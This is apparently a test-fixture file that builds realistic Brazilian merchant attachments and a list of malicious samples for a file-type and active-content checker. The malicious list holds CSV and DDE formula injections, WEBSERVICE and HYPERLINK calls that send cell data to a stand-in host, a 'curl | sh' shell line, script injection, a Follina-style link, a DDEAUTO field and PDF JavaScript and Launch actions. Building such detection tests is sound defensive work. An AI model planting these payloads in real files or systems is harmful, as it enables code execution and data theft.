/**
 * A corpus of attachments for the type check (file-type.ts, csv-formulas.ts, pdf-active-content.ts):
 * realistic pt-BR files of every kind merchants send, and files that act or lie. Built here, small.
 */
import { deflateSync } from 'node:zlib';
import { exe, jpeg, nfeXml, png, webp, xlsm, xlsx, zip } from './files';

const u = (s: string) => Buffer.from(s, 'utf8');
const l1 = (s: string) => Buffer.from(s, 'latin1');
/** A description, the bytes, the name she gave the file. */
export type Row = [string, Buffer, string];

/** Files merchants really attach (ERP and marketplace exports, NF-e, boletos, prints, letters): all accepted. */
export const BENIGN_FILES: Row[] = [];
const benign = BENIGN_FILES;
const csv = (name: string, text: string, file = 'relatorio.csv') => benign.push([name, u(text), file]);
csv(
  'bling ; negativos',
  'Número;Data;Cliente;Total;Frete;Desconto\n1042;01/11/2026;Ana Lima;189,90;-19,90;-10,00\n1043;02/11/2026;João Souza;59,90;0,00;-5,00\n',
  'bling-pedidos.csv',
);
csv(
  'tiny , quoted decimals',
  'Pedido,Data,Cliente,Valor\n"3101","03/11/2026","Maria da Silva","-19,90"\n"3102","03/11/2026","Pedro","1.234,56"\n',
  'tiny.csv',
);
csv(
  'shopee bullets sem estoque',
  'pedido;itens;qtd\n250001;- produto(s) sem estoque;2\n250002;- item(ns) cancelado(s) pelo vendedor;1\n',
  'shopee.csv',
);
csv('brinde plus bullet', 'pedido;observação\n7781;+ brinde(s) na caixa\n7782;+ 1 unidade(s) de cortesia\n', 'obs.csv');
csv(
  'ml handles',
  'Venda;Comprador;Loja\n2000012345;@comprador_ana;@lojadaana\n2000012346;@joao.silva;@emporio\n',
  'mercadolivre.csv',
);
csv(
  'phones',
  'nome;telefone;whatsapp\nAna;+55 11 98888-7777;+55 (11) 98888-7777\nJoão;+5511988887777;+55 21 3333-4444\n',
  'contatos.csv',
);
csv(
  'equals inside names',
  'sku;produto\nKIT3;Leve 3 = pague 2 (promo)\nCAM1;Camiseta P/M/G = tamanho único\n',
  'produtos.csv',
);
csv('percent discounts', 'cupom;desconto\nBLACK;-10%\nFRETE;+5%\n', 'cupons.csv');
csv('currency signs', 'lançamento;valor\nestorno;-R$ 19,90\ntaxa;-R$ 1,99 (tarifa)\n', 'extrato.csv');
csv('dashes placeholders', 'campo;valor\nrastreio;-\nobs;--\nnota;-->\n', 'placeholder.csv');
csv('minus word bracket no space', 'item\n-brinde(s) extra\n', 'lista.csv');
csv('quoted bullet', 'pedido;nota\n88;"- produto(s) sem estoque; aguardando"\n', 'q.csv');
csv('tab separated', 'pedido\tvalor\tobs\n1\t-19,90\t- produto(s) sem estoque\n', 'tab.csv');
csv('bom crlf', '\ufeffPedido;Valor\r\n1;-19,90\r\n2;29,90\r\n', 'bom.csv');
csv('hashtags and emails', 'post;autor\n#blackfriday promo;ana@loja.com.br\n', 'social.csv');
csv('dates and times', 'data;hora\n2026-11-01;-03:00\n01/11/2026;+03:00\n', 'tz.csv');
csv(
  'long export',
  'id;produto;valor\n' +
    Array.from({ length: 2000 }, (_, i) => `${i};Camiseta básica (${i % 3 ? 'P' : 'G'});-${i},90`).join('\n') +
    '\n',
  'grande.csv',
);
csv('minus then amount with parens', 'conta;saldo\ncaixa;-(19,90)\n', 'saldo.csv');
csv('at sign mention w/ bracket space', 'comentário\n@ana (cliente vip)\n', 'c.csv');
csv('plus item list', 'itens\n+ 2 pares de meia(s)\n+ 1 capa (brinde)\n', 'itens.csv');
csv('minus arrow', 'passo\n-> enviar nota fiscal(NF-e)\n', 'passos.csv');
csv('minus qty unit', 'ajuste\n- 2 unidade(s) devolvida(s)\n', 'ajuste.csv');
csv('negative sci', 'medida\n-1,5E+3\n', 'med.csv');
csv('nfe key', 'chave\n35261112345678000199550010000012341000012345\n', 'chaves.csv');
csv('semicolon in quoted', 'end;cidade\n"Rua A, 10; apto 2";São Paulo\n', 'end.csv');
csv('plus brand name', 'marca\n+Vida(Natural)\n', 'marcas.csv');
csv('minus hyphen word', 'status\n-cancelado(a) pelo cliente\n', 'status.csv');
csv('at loja (oficial)', 'loja\n@loja(oficial)\n', 'loja.csv');
csv('quoted plus with brackets', 'obs\n"+ produto(s) com avaria, ver foto"\n', 'avaria.csv');
// files 55: bars without a DDE item, sizes and plurals in brackets, remote names as words.
csv('grade with bars', 'produto;grade\nCamiseta básica;- tamanhos P|M|G\nBermuda;-38|40|42\n', 'grade.csv');
csv(
  'caps size at cell end',
  'pedido;item;qtd\n1;-CAMISETA(P);2\n2;- 2 CAMISETA(S);1\n3;+KIT(GG);1\n',
  'itens-caps.csv',
);
csv(
  'call center notes',
  'cliente;obs\nAna;- 2 call(s) sem resposta\nJoão;+ 3 image(s) do produto\nMaria;- 1 CALL(S)\n',
  'atendimento.csv',
);
csv(
  'signed list with fractions and tags',
  'itens\n- 1/2 dúzia! (promo)\n- pedido #123 (urgente)\n- [promo] leve 3! (oferta)\n',
  'promo.csv',
);
csv('full-width japanese export', 'valor;itens\n\uff0d15,00;\uff0d 商品\uff08\uff33\uff09\n', 'jp.csv');
csv(
  'caps bullets',
  'pedido;itens\n1;- PRODUTO(S) SEM ESTOQUE\n2;+ BRINDE(S) NA CAIXA\n3;-CAMISETA(P) AZUL\n',
  'caps.csv',
);
csv('quoted caps', 'pedido;itens\n1;"- PRODUTO(S) SEM ESTOQUE"\n', 'qcaps.csv');
csv('image words', 'obs\n- 2 foto(s) anexada(s)\n', 'fotos.csv');
csv('windows-1252? (utf8 ok)', 'cliente;cidade\nJoão;São Paulo\n', 'w.csv');
benign.push([
  'cp1252 csv from Excel pt-BR',
  l1('Cliente;Cidade;Observação\nJoão;São Paulo;entregue\n'),
  'excel-ptbr.csv',
]);
benign.push(['latin1 txt', l1('Reclamação: cobrança em dobro\n'), 'nota.txt']);
benign.push([
  'utf16 excel texto unicode',
  Buffer.concat([
    Buffer.from([0xff, 0xfe]),
    Buffer.from('Pedido\tValor\tObservação\r\n1\t-19,90\tentregue\r\n', 'utf16le'),
  ]),
  'vendas.txt',
]);
benign.push([
  'utf16 csv',
  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Pedido;Valor\r\n1;-19,90\r\n', 'utf16le')]),
  'vendas.csv',
]);
benign.push([
  'cp1252 csv euro and quotes',
  Buffer.from([...Buffer.from('produto;preço\n', 'latin1'), 0x93, 0x41, 0x94, 0x3b, 0x80, 0x31, 0x0a]),
  'precos.csv',
]);
const txt = (n: string, t: string, f = 'nota.txt') => benign.push([n, u(t), f]);
txt('txt with formula-ish', '=) obrigado!\n- produto(s) sem estoque\n');
txt('txt email copy', 'De: ana@loja.com.br\nAssunto: reembolso\n\nOlá, segue o comprovante.\n');
txt('txt markdown-ish', '# Resumo\n* item 1\n* item 2\n');
txt('txt with xml-ish later', 'nota\nveja o XML <nfeProc> anexado\n');
txt('txt quoting an e-mail address', '<ana@loja.com.br> escreveu:\nOlá, segue o comprovante.\n');
txt('txt with an order in angle brackets', '<pedido 1042> atrasado\n<3 obrigada\n');
csv('csv header in angle brackets', '<produto>;<preço>\ncaneta;2,50\n', 'precos.csv');
// images
benign.push(['png', png(), 'print.png'], ['jpeg', jpeg(), 'foto.jpg'], ['webp', webp(), 'tela.webp']);
benign.push(['jpeg named png', jpeg(), 'comprovante.png']);
benign.push([
  'jpeg exif-ish',
  Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe1, 0, 0x20]), u('Exif\0\0MM\0*'), Buffer.alloc(200, 7)]),
  'IMG_2026.jpg',
]);
// pdfs
const pdfText = (objs: string[], trailer = '<< /Root 1 0 R >>') => {
  let out = '%PDF-1.7\n%âãÏÓ\n';
  for (const [i, o] of objs.entries()) out += `${i + 1} 0 obj\n${o}\nendobj\n`;
  return l1(`${out}trailer\n${trailer}\n%%EOF\n`);
};
const stream = (content: string, dict = '') => {
  const z = deflateSync(Buffer.from(content, 'latin1'));
  return Buffer.concat([l1(`<< /Length ${z.length} /Filter /FlateDecode ${dict}>>\nstream\n`), z, l1('\nendstream')]);
};
const pdfBin = (objs: (string | Buffer)[], trailer = '<< /Root 1 0 R >>') => {
  const parts: Buffer[] = [l1('%PDF-1.7\n%âãÏÓ\n')];
  for (const [i, o] of objs.entries())
    parts.push(l1(`${i + 1} 0 obj\n`), typeof o === 'string' ? l1(o) : o, l1('\nendobj\n'));
  parts.push(l1(`trailer\n${trailer}\n%%EOF\n`));
  return Buffer.concat(parts);
};
const page =
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>';
const danfeContent =
  'BT /F1 9 Tf 20 800 Td (DANFE - Documento Auxiliar da Nota Fiscal Eletronica) Tj ET BT 20 780 Td (CHAVE 3526 1112 3456 7800 0199 5500 1000 0012 3410 0001 2345) Tj ET';
benign.push([
  'danfe simple',
  pdfBin([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    page,
    stream(danfeContent),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]),
  'danfe.pdf',
]);
benign.push([
  'pdf openaction fit',
  pdfBin([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /FitH null] >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    page,
    stream(danfeContent),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]),
  'boleto.pdf',
]);
benign.push([
  'pdf with uri link',
  pdfBin([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [6 0 R] >>',
    stream(danfeContent),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://www.nfe.fazenda.gov.br/portal/consulta.aspx) >> >>',
  ]),
  'danfe-link.pdf',
]);
// object-stream PDF (1.5+) holding the catalog
const objstmBody = '1 0 2 48 << /Type /Catalog /Pages 2 0 R /Lang (pt-BR) >> << /Type /Pages /Kids [3 0 R] /Count 1 >>';
benign.push([
  'pdf objstm+xref stream',
  pdfBin([
    stream(objstmBody, '/Type /ObjStm /N 2 /First 9 '),
    '<< >>',
    page,
    stream(danfeContent),
    stream('\x01\x00\x00\x00', '/Type /XRef /W [1 2 1] /Size 6 '),
  ]),
  'nfe-objstm.pdf',
]);
benign.push([
  'pdf with png predictor xref',
  pdfBin([
    stream(objstmBody, '/Type /ObjStm /N 2 /First 9 '),
    '<< >>',
    page,
    stream(danfeContent),
    stream('\x02\x01\x00\x10\x00', '/Type /XRef /W [1 2 1] /Size 6 /DecodeParms << /Columns 4 /Predictor 12 >> '),
  ]),
  'boleto-itau.pdf',
]);
benign.push([
  'pdf with image',
  pdfBin([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    page,
    stream(danfeContent),
    Buffer.concat([
      l1('<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter /DCTDecode /Length 70 >>\nstream\n'),
      jpeg(),
      l1('\nendstream'),
    ]),
  ]),
  'comprovante-pix.pdf',
]);
benign.push([
  'pdf with acroform text field',
  pdfText(['<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] >> >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
  'formulario.pdf',
]);
benign.push([
  'pdf metadata with words JavaScript in text',
  pdfBin([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    page,
    stream('BT (Curso de JavaScript - recibo) Tj ET'),
    '<< /Title (Recibo curso JavaScript e Launch) >>',
  ]),
  'recibo.pdf',
]);
// office
const CT = (main: string, extra = '') =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="${main}"/>${extra}</Types>`;
const XL_MAIN = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';
const sheet = (rows: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheetData>${rows}</sheetData></worksheet>`;
const excel = (sheetXml: string, more: Record<string, string> = {}) =>
  zip({
    '[Content_Types].xml': CT(XL_MAIN),
    '_rels/.rels':
      '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/></Relationships>',
    'xl/workbook.xml':
      '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Pedidos" sheetId="1" r:id="rId1"/></sheets><definedNames><definedName name="_xlnm._FilterDatabase" localSheetId="0" hidden="1">Pedidos!$A$1:$D$9</definedName></definedNames></workbook>',
    'xl/_rels/workbook.xml.rels':
      '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
    'xl/worksheets/sheet1.xml': sheetXml,
    'xl/sharedStrings.xml': '<sst><si><t>- produto(s) sem estoque</t></si><si><t>=HYPERLINK texto</t></si></sst>',
    'docProps/core.xml': '<cp:coreProperties xmlns:cp="x"><dc:creator>Ana</dc:creator></cp:coreProperties>',
    ...more,
  });
benign.push(['xlsx SUM', excel(sheet('<row r="10"><c r="B10"><f>SUM(B2:B9)</f><v>10</v></c></row>')), 'vendas.xlsx']);
benign.push([
  'xlsx SOMA/PROCV/SE',
  excel(
    sheet(
      '<row r="2"><c r="E2"><f>IFERROR(VLOOKUP(A2,Produtos!A:B,2,FALSE),"-")</f></c><c r="F2"><f>IF(D2&lt;0,"estorno","venda")</f></c></row>',
    ),
  ),
  'bling.xlsx',
]);
benign.push([
  'xlsx shared formulas',
  excel(
    sheet(
      '<row r="2"><c r="D2"><f t="shared" ref="D2:D500" si="0">B2*C2</f></c></row><row r="3"><c r="D3"><f t="shared" si="0"/></c></row>',
    ),
  ),
  'tiny.xlsx',
]);
benign.push([
  'xlsx hyperlink https',
  excel(
    sheet(
      '<row r="2"><c r="A2"><f>HYPERLINK("https://www.mercadolivre.com.br/vendas/2000012345","ver venda")</f></c></row><hyperlinks><hyperlink ref="B2" r:id="rId9"/></hyperlinks>',
    ),
    {
      'xl/worksheets/_rels/sheet1.xml.rels':
        '<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://shopee.com.br/loja" TargetMode="External"/></Relationships>',
    },
  ),
  'ml.xlsx',
]);
benign.push([
  'xlsx data validation list',
  excel(
    sheet(
      '<row r="1"><c r="A1"><v>1</v></c></row><dataValidations count="1"><dataValidation type="list" sqref="C2:C100"><formula1>"pago,pendente,estornado"</formula1></dataValidation></dataValidations>',
    ),
  ),
  'status.xlsx',
]);
benign.push([
  'xlsx conditional format',
  excel(
    sheet(
      '<conditionalFormatting sqref="D2:D100"><cfRule type="expression" priority="1"><formula>$D2&lt;0</formula></cfRule></conditionalFormatting>',
    ),
  ),
  'cores.xlsx',
]);
benign.push([
  'xlsx mailto hyperlink',
  excel(sheet(''), {
    'xl/worksheets/_rels/sheet1.xml.rels':
      '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="mailto:sac@loja.com.br" TargetMode="External"/></Relationships>',
  }),
  'contatos.xlsx',
]);
benign.push([
  'xlsx text "cmd" in string',
  excel(sheet('<row r="2"><c r="A2"><f>CONCATENATE("cmd|x ","WEBSERVICE(")</f></c></row>')),
  'texto.xlsx',
]);
benign.push(['xlsx minimal helper', xlsx(), 'pedidos.xlsx']);
benign.push([
  'xlsx with image drawing',
  excel(sheet('<drawing r:id="rId1"/>'), {
    'xl/drawings/drawing1.xml': '<xdr:wsDr/>',
    'xl/media/image1.png': png().toString('latin1'),
  }),
  'fotos.xlsx',
]);
const WD_MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const word = (body: string, more: Record<string, string> = {}) =>
  zip({
    '[Content_Types].xml': `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="${WD_MAIN}"/></Types>`,
    '_rels/.rels':
      '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
    'word/document.xml': `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`,
    ...more,
  });
benign.push([
  'docx letter',
  word('<w:p><w:r><w:t>Prezados, solicito o reembolso do pedido 1042 (R$ -19,90).</w:t></w:r></w:p>'),
  'carta.docx',
]);
benign.push([
  'docx page field',
  word('<w:p><w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'),
  'relatorio.docx',
]);
benign.push([
  'docx hyperlink field',
  word(
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> HYPERLINK "https://www.bagy.com.br/ajuda" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
  ),
  'links.docx',
]);
benign.push([
  'docx TOC + date',
  word(
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> TOC \\o "1-3" \\h </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:fldSimple w:instr=" DATE \\@ &quot;dd/MM/yyyy&quot; "/></w:p>',
  ),
  'sumario.docx',
]);
benign.push([
  'docx text mentions DDE',
  word('<w:p><w:r><w:t>O campo DDEAUTO é perigoso, diz o manual</w:t></w:r></w:p>'),
  'manual.docx',
]);
benign.push([
  'docx external hyperlink rel',
  word('<w:p/>', {
    'word/_rels/document.xml.rels':
      '<Relationships><Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.correios.com.br/rastreamento?objeto=AA123456789BR&amp;x=1" TargetMode="External"/></Relationships>',
  }),
  'rastreio.docx',
]);
benign.push([
  'docx local includepicture',
  word('<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;media/image1.png&quot; \\* MERGEFORMATINET "/></w:p>'),
  'foto.docx',
]);
benign.push(['nfe xml (nfeProc from the ERP)', u(nfeXml()), 'NFe35261112345678000199550010000012341000012345.xml']);
benign.push([
  'nfe xml saved by the SEFAZ portal (BOM, CRLF, no declaration)',
  u(`\ufeff${nfeXml({ declaration: '' })}`.replace(/\n/g, '\r\n')),
  'nota.xml',
]);
// policy (not accepted kinds): measured apart
/** Kinds the ombudsman does not take (the list is a product decision), refused as such. */
export const NOT_ACCEPTED_FILES: Row[] = [
  [
    'xml that is not a fiscal document',
    u('<?xml version="1.0" encoding="UTF-8"?><pedidos><pedido id="7731"><total>49,80</total></pedido></pedidos>'),
    'pedidos.xml',
  ],
  [
    'xml order export without its declaration',
    u(
      '<pedidos xmlns="http://www.erploja.com.br/pedidos">\n  <pedido id="7731"><total>49,80</total></pedido>\n</pedidos>\n',
    ),
    'pedidos.xml',
  ],
  ['xml without declaration named as text', u('<pedidos><pedido id="7731"/></pedidos>'), 'pedidos.txt'],
  ['zip of invoices', zip({ 'nfe-1.xml': '<nfeProc/>', 'danfe-1.pdf': '%PDF-1.4' }), 'notas.zip'],
];

/** Files that act when the analyst opens them, or lie about what they are: all refused. */
export const MALICIOUS_FILES: Row[] = [];
const bad = MALICIOUS_FILES;
const bcsv = (n: string, t: string) => bad.push([n, u(t), 'pedidos.csv']);
bcsv('dde =cmd', "a;b\n1;=cmd|' /C calc'!A0\n");
bcsv('dde +cmd', "a;b\n1;+cmd|' /C calc'!A0\n");
bcsv('dde - space cmd', "a;b\n1;- cmd|' /C calc'!A0\n");
bcsv('dde @SUM', "@SUM(1+1)*cmd|' /C calc'!A0\n");
bcsv('webservice =', 'a;b\n1;=WEBSERVICE("http://golpe.example/?"&A1)\n');
bcsv('webservice - space', 'a;b\n1;- WEBSERVICE("http://golpe.example/?"&A1)\n');
bcsv('webservice + 2 space', 'a;b\n1;+ 2 + WEBSERVICE("http://golpe.example/?"&A1)\n');
bcsv('hyperlink =', 'a;b\n1;=HYPERLINK("http://golpe.example";"clique")\n');
bcsv('hyperlink + space', 'a;b\n1;+ HYPERLINK("http://golpe.example";"clique")\n');
bcsv('hiperlink pt-BR - space', 'a;b\n1;- HIPERLINK("http://golpe.example";"clique")\n');
bcsv('hyperlink -', 'a;b\n1;-HYPERLINK("http://golpe.example")\n');
bcsv('hyperlink @', 'a;b\n1;@HYPERLINK("http://golpe.example")\n');
bcsv('importxml quoted', 'a;b\n"x";"=IMPORTXML(""http://golpe.example"";""//a"")"\n');
bcsv('full-width =', 'a,b\n1,\uff1dHYPERLINK("http://golpe.example")\n');
bcsv('+SUM', 'pedido\t+SUM(1;2)\n');
bcsv('- space SUM then dde', "a;b\n1;- SUM(1)+cmd|' /C calc'!A0\n");
bcsv('hyperlink after sign-run space', 'a;b\n1;-1 + HYPERLINK("http://golpe.example")\n');
bcsv('quoted - space hyperlink', 'a;b\n1;"- HYPERLINK(""http://golpe.example"")"\n');
bcsv('_xlfn.webservice', 'a;b\n1;+_xlfn.WEBSERVICE("http://golpe.example")\n');
bcsv('lowercase hyperlink', 'a;b\n1;-hyperlink("http://golpe.example")\n');
bcsv('webservice then words', 'a;b\n1;+WEBSERVICE("http://golpe.example/?"&A1) x\n');
bcsv('at dde', "a;b\n1;@cmd|' /C calc'!A0\n");
bcsv('+ IMPORTXML space', 'a;b\n1;+ IMPORTXML("http://golpe.example";"//a")\n');
bcsv('caps SUM end', 'a;b\n1;-SUM(A1:A3)\n');
bcsv('caps nested SUM op', 'a;b\n1;+ROUND(SUM(A1:A3),2)*2\n');
bcsv('tab hyperlink', 'a\tb\n1\t+HYPERLINK("http://golpe.example")\n');
// files 55: full-width names, a space before the bracket, quoted DDE names, LibreOffice's DDE().
bcsv(
  'full-width hyperlink',
  'pedido;link\n1;\uff0d\uff28\uff39\uff30\uff25\uff32\uff2c\uff29\uff2e\uff2b("http://golpe.example")\n',
);
bcsv('full-width W webservice', 'pedido;c\n1;-\uff37EBSERVICE("http://golpe.example/?c="&B2)\n');
bcsv('tab opening the file', '\t=HYPERLINK("http://golpe.example/login")\n');
bcsv('en space before the sign', 'pedido;link\n1;\u2002=HYPERLINK("http://golpe.example/login")\n');
bcsv('unc workbook reference', "pedido;valor\n1;-'\\\\golpe.example\\s\\[x.xlsx]Plan1'!A1\n");
bcsv('libreoffice web link', "pedido;valor\n1;-'https://golpe.example/x.ods'#$Plan1.A1\n");
bcsv('space before bracket', 'pedido;link\n1;-HYPERLINK ("http://golpe.example/login")\n');
bcsv('quoted dde app', "pedido;valor\n1;-'cmd'|' /C calc'!A0\n");
bcsv('double-quoted dde app', 'pedido;valor\n1;-"cmd"|\' /C calc\'!A0\n');
bcsv('lower dde function', 'pedido;valor\n1;"-dde(""cmd"";""/C calc"";""x"")"\n');
bcsv('webservice of a heading', 'url;pedido\nhttp://golpe.example/?c=;1\n-WEBSERVICE(url)\n');
bad.push([
  'utf16 full-width hyperlink',
  Buffer.concat([
    Buffer.from([0xff, 0xfe]),
    Buffer.from('a;b\r\n1;\uff0dhyperlink\uff08"http://golpe"\uff09\r\n', 'utf16le'),
  ]),
  'pedidos.csv',
]);
bad.push(['cp1252 csv formula', l1('Observação;link\n1;=HYPERLINK("http://golpe.example")\n'), 'pedidos.csv']);
bad.push([
  'utf16 csv dde',
  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("a;b\n1;-2+cmd|' /C calc'!A0\n", 'utf16le')]),
  'pedidos.csv',
]);
bad.push([
  'utf16 html',
  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<html><script>alert(1)</script>', 'utf16le')]),
  'nota.txt',
]);
bad.push(['cp1252 with undefined byte 0x81 + NUL-free binary', Buffer.from([0x81, 0x8d, 0x41, 0x42]), 'nota.txt']);
bad.push(['exe as pdf', exe(), 'fatura.pdf'], ['exe as csv', exe(), 'pedidos.csv']);
bad.push(['elf', Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(60)]), 'nota.txt']);
bad.push(['shell script', u('#!/bin/sh\ncurl http://golpe | sh\n'), 'nota.txt']);
bad.push(['html as txt', u('<html><script>alert(1)</script></html>'), 'nota.txt']);
bad.push([
  'div with a handler as txt',
  u('<div onclick="location=\'http://golpe.example\'">Ver pedido</div>'),
  'nota.txt',
]);
bad.push(['paragraph as csv', u('<p>Pedido</p>;1\n'), 'pedidos.csv']);
bad.push(['comment then page as txt', u('<!-- x -->\n<b>Pedido</b>'), 'nota.txt']);
bad.push(['script after spaces as txt', u(`${' '.repeat(100)}<script>alert(1)</script>`), 'nota.txt']);
bad.push([
  'utf16 table as txt',
  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<table onmouseover="x"><tr><td>1', 'utf16le')]),
  'nota.txt',
]);
bad.push(['xml stylesheet as txt', u('<?xml-stylesheet type="text/xsl" href="http://golpe/x.xsl"?><a/>'), 'nota.txt']);
bad.push(['svg as png name', u('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'print.png']);
bad.push(['xlsm renamed xlsx', xlsm(), 'vendas.xlsx']);
bad.push([
  'xlsx external link',
  excel(sheet(''), { 'xl/externalLinks/externalLink1.xml': '<externalLink/>' }),
  'vendas.xlsx',
]);
bad.push([
  'xlsx webservice formula',
  excel(sheet('<row r="2"><c r="A2"><f>WEBSERVICE("http://golpe.example/?"&amp;B2)</f></c></row>')),
  'vendas.xlsx',
]);
bad.push([
  'xlsx dde formula',
  excel(sheet('<row r="2"><c r="A2"><f>cmd|\' /C calc\'!A0</f></c></row>')),
  'vendas.xlsx',
]);
bad.push(['xlsx connections', excel(sheet(''), { 'xl/connections.xml': '<connections/>' }), 'vendas.xlsx']);
bad.push(['xlsx macrosheet', excel(sheet(''), { 'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>' }), 'vendas.xlsx']);
bad.push([
  'xlsx unc hyperlink',
  excel(sheet(''), {
    'xl/worksheets/_rels/sheet1.xml.rels':
      '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="\\\\golpe\\share\\x" TargetMode="External"/></Relationships>',
  }),
  'vendas.xlsx',
]);
bad.push([
  'docx remote template',
  word('<w:p/>', {
    'word/_rels/settings.xml.rels':
      '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://golpe.example/t.dotm" TargetMode="External"/></Relationships>',
  }),
  'carta.docx',
]);
bad.push([
  'docx ddeauto',
  word('<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "/></w:p>'),
  'carta.docx',
]);
bad.push([
  'docx includepicture unc',
  word('<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;\\\\\\\\golpe\\\\x.png&quot; "/></w:p>'),
  'carta.docx',
]);
bad.push(['docx oleobject bin', word('<w:p/>', { 'word/embeddings/oleObject1.bin': 'x' }), 'carta.docx']);
bad.push([
  'docx ms-msdt follina',
  word('<w:p/>', {
    'word/_rels/document.xml.rels':
      '<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="http://golpe.example/x.html!" TargetMode="External"/></Relationships>',
  }),
  'carta.docx',
]);
bad.push(['zip with exe', zip({ 'nota.exe': exe() }), 'notas.zip']);
bad.push(['zip with exe named xlsx', zip({ 'nota.exe': exe() }), 'notas.xlsx']);
bad.push([
  'pdf javascript',
  pdfText(['<< /Type /Catalog /OpenAction 2 0 R >>', '<< /S /JavaScript /JS (app.alert(1)) >>']),
  'boleto.pdf',
]);
bad.push([
  'pdf #-escaped JS',
  pdfText(['<< /Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (x) >> >>']),
  'boleto.pdf',
]);
bad.push(['pdf launch', pdfText(['<< /Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >> >>']), 'boleto.pdf']);
bad.push([
  'pdf embedded file',
  pdfText([
    '<< /Type /Catalog /Names << /EmbeddedFiles << /Names [(x.exe) 2 0 R] >> >> >>',
    '<< /Type /Filespec /EF << /F 3 0 R >> >>',
    '<< /Type /EmbeddedFile >>',
  ]),
  'danfe.pdf',
]);
bad.push([
  'pdf openaction uri',
  pdfText(['<< /Type /Catalog /OpenAction << /S /URI /URI (http://golpe.example) >> >>']),
  'danfe.pdf',
]);
bad.push([
  'pdf JS in objstm',
  pdfBin([
    stream(
      '1 0 << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>',
